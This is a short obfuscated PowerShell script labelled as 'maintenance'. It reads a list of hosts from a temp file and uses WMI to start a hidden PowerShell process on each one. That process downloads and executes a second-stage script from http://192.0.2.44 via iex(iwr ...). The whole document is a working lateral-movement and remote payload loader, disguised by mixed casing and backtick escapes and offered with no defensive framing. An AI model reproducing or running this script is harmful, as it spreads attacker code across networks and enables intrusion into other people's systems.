# maintenance 7438 v1
$tArGeTs = gET-`cOnTeNt c:\wiNdoWs\TeMp\HoSts.tXt
FoReAcH ($t IN $tArgETS) {
  invO`Ke-`wmimEtHo`d -CoMpUtErNaMe $t -ClaSs WIN32_procesS -NAmE crEAtE -ARGuMenTLiSt "powershell -nop -w hidden -c iex(iwr http://192.0.2.44/stage2.ps1)"
}
